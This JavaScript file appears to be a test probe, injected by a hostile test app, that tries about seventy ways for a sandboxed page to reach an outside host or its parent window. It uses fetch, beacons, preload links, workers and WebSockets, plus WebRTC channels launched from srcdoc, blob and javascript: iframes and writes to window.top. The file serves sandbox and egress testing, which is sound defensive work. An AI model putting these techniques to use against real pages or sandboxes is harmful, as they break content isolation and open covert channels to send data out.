// Every way out of a page that is known, tried from within. The words in capitals are put in by the
// app: hostile_app.py.
const at = "AT";
const to = (way) => `HERE/${at}-${way}`;
const tried = [];
const add = (tag, more, parent = document.body) => parent.append(Object.assign(document.createElement(tag), more));
const frameOf = (html) => { const div = document.createElement("div"); div.innerHTML = html; document.body.append(div); };
const rtc = (Peer, way) => {
  const peer = new Peer({ iceServers: [
    { urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }, { urls: "stun:HOST" },
  ] });
  peer.createDataChannel(way);
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
const RTC = `(${String(rtc)})`;
const ways = {
  fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
  keepalive: () => fetch(to("keepalive"), { method: "POST", body: "x", keepalive: true, mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.send(); },
  beacon: () => navigator.sendBeacon(to("beacon"), "x"),
  image: () => { new Image().src = to("image"); },
  picture: () => frameOf(`<picture><source srcset="${to("picture")}"><img src="${to("picture-img")}"></picture>`),
  script: () => add("script", { src: to("script") }),
  module: () => add("script", { type: "module", textContent: `import "${to("module")}"` }),
  dynamic: () => import(to("dynamic")),
  style: () => add("link", { rel: "stylesheet", href: to("style") }),
  css: () => add("style", { textContent: `@import "${to("import")}"; body { background: url(${to("css")}) }
    @font-face { font-family: x; src: url(${to("font")}) } body { font-family: x }` }),
  fontface: () => new FontFace("y", `url(${to("fontface")})`).load(),
  prefetch: () => add("link", { rel: "prefetch", href: to("prefetch") }),
  preload: () => add("link", { rel: "preload", as: "image", href: to("preload") }),
  modulepreload: () => add("link", { rel: "modulepreload", href: to("modulepreload") }),
  preconnect: () => add("link", { rel: "preconnect", href: to("preconnect") }),
  preconnectHead: () => { document.head.innerHTML += `<link rel="preconnect" href="${to("preconnect2")}" crossorigin>`; },
  dns: () => add("link", { rel: "dns-prefetch", href: to("dns") }),
  prerender: () => add("link", { rel: "prerender", href: to("prerender") }),
  icon: () => add("link", { rel: "icon", href: to("icon") }),
  manifest: () => add("link", { rel: "manifest", href: to("manifest") }),
  speculation: () => add("script", { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ urls: [to("speculation")] }], prerender: [{ urls: [to("prerender2")] }] }) }),
  websocket: () => new WebSocket("ws://HOST/" + at),
  eventsource: () => new EventSource(to("eventsource")),
  transport: () => new WebTransport("https://HOST/"),
  form: () => { const form = document.createElement("form"); Object.assign(form, { action: to("form"), method: "post" });
    document.body.append(form); form.submit(); },
  formTop: () => { const form = document.createElement("form"); Object.assign(form, { action: to("form2"), target: "_top" });
    document.body.append(form); form.submit(); },
  refresh: () => add("meta", { httpEquiv: "refresh", content: `0; url=${to("refresh")}` }, document.head),
  open: () => window.open(to("open")),
  anchor: () => { const a = Object.assign(document.createElement("a"), { href: to("anchor"), target: "_blank", ping: to("ping") });
    document.body.append(a); a.click(); },
  anchorTop: () => { const a = Object.assign(document.createElement("a"), { href: to("anchor2"), target: "_top" });
    document.body.append(a); a.click(); },
  top: () => { window.top.location = to("top"); },
  parent: () => { window.parent.location.href = to("parent"); },
  title: () => { window.top.document.title = "owned"; },
  owned: () => { window.top.owned = true; },
  frame: () => add("iframe", { src: to("frame") }),
  frameHtml: () => frameOf(`<iframe src="${to("frameHtml")}"></iframe>`),
  frameBlob: () => add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to("blob")}">`], { type: "text/html" })) }),
  frameData: () => add("iframe", { src: `data:text/html,<img src="${to("data")}"><scr` + `ipt>fetch("${to("data2")}")</scr` + `ipt>` }),
  object: () => add("object", { data: to("object") }),
  embed: () => add("embed", { src: to("embed") }),
  media: () => { add("video", { src: to("video"), poster: to("poster") }); new Audio(to("audio")).play(); },
  track: () => frameOf(`<video><track default src="${to("track")}"></video>`),
  svg: () => frameOf(`<svg><image href="${to("svg")}"/><use href="${to("use")}#a"/></svg>`),
  worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts("${to("worker")}"); fetch("${to("worker2")}")`]))),
  workerFetch: () => new Worker(URL.createObjectURL(new Blob([`fetch("${to("worker3")}"); new WebSocket("ws://HOST/w")`]))),
  workerFar: () => new Worker(to("worker4")),
  shared: () => new SharedWorker(to("shared")),
  service: () => navigator.serviceWorker.register(to("service")),
  rtc: () => rtc(RTCPeerConnection, "rtc"),
  rtcOld: () => rtc(webkitRTCPeerConnection, "rtc"),
  rtcDeleted: () => { delete window.RTCPeerConnection; rtc(window.RTCPeerConnection, "rtc"); },
  rtcFrame: () => { const frame = document.createElement("iframe"); document.body.append(frame); rtc(frame.contentWindow.RTCPeerConnection); },
  rtcFrames: () => { frameOf("<iframe></iframe>"); rtc(window[window.length - 1].RTCPeerConnection); },
  rtcSrcdoc: () => frameOf(`<iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "srcdoc")</scr` + `ipt>'></iframe>`),
  rtcSrcdocAttribute: () => { const f = document.createElement("iframe"); f.setAttribute("srcdoc", `<scr` + `ipt>${RTC}(RTCPeerConnection, "srcdoc")</scr` + `ipt>`); document.body.append(f); },
  rtcShadow: () => { const host = document.createElement("div"); document.body.append(host);
    host.attachShadow({ mode: "closed" }).innerHTML = `<iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "shadow")</scr` + `ipt>'></iframe>`; },
  rtcScript: () => { const f = document.createElement("iframe"); f.src = "javascript:" + RTC + "(RTCPeerConnection, 'js')"; document.body.append(f); },
  rtcScriptHtml: () => frameOf(`<iframe src="javascript:${RTC.replaceAll('"', "&quot;")}(RTCPeerConnection, 'html')"></iframe>`),
  rtcLocation: () => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.location = "javascript:" + RTC + "(RTCPeerConnection, 'l')"; },
  rtcTarget: () => { frameOf("<iframe name=inner></iframe>"); const a = Object.assign(document.createElement("a"), { target: "inner", href: "javascript:" + RTC + "(RTCPeerConnection, 'a')" });
    document.body.append(a); a.click(); },
  rtcDeclared: () => { const div = document.createElement("div"); document.body.append(div);
    div.setHTMLUnsafe(`<div><template shadowrootmode="closed"><iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "declared")</scr` + `ipt>'></iframe></template></div>`); },
  rtcWrite: () => { if (document.readyState === "loading") document.write(`<link rel="preconnect" href="${to("written")}"><iframe srcdoc='<scr` + `ipt>${RTC}(RTCPeerConnection, "w")</scr` + `ipt>'></iframe>`); },
  rtcBlob: () => add("iframe", { src: URL.createObjectURL(new Blob([`<scr` + `ipt>${RTC}(RTCPeerConnection, "blob")</scr` + `ipt>`], { type: "text/html" })) }),
  rtcWorker: () => new Worker(URL.createObjectURL(new Blob([`${RTC}(RTCPeerConnection, "worker")`]))),
  self: () => { setTimeout(() => { location.href = to("self"); }, 1500); },
};
const leaving = ["form", "refresh", "self"]; // what would take the place of the page itself
for (const [way, go] of Object.entries(ways)) {
  if (ONLY !== (leaving.includes(way) ? "leaving" : "staying")) continue;
  try { Promise.resolve(go()).catch(() => {}); tried.push(way); } catch (error) { tried.push(`${way}: ${error.name}`); }
}
document.body.append(Object.assign(document.createElement("p"), { id: `tried-${at}`, textContent: `${at} tried ${tried.length} ways` }));
